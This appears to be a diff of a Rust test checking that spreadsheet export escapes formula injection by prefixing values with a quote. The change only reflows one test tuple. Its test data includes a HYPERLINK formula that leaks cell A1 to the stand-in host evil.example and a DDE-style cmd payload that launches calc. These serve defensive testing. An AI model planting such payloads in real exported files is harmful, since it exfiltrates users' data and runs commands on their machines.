@@ -154,7 +154,10 @@ mod tests {
     #[test]
     fn exported_cells_are_not_formulas() {
         for (value, cell) in [
-            ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")"),
+            (
+                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")",
+                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")",
+            ),
             ("+33 1 23", "'+33 1 23"),
             ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
             ("@SUM(A1)", "'@SUM(A1)"),
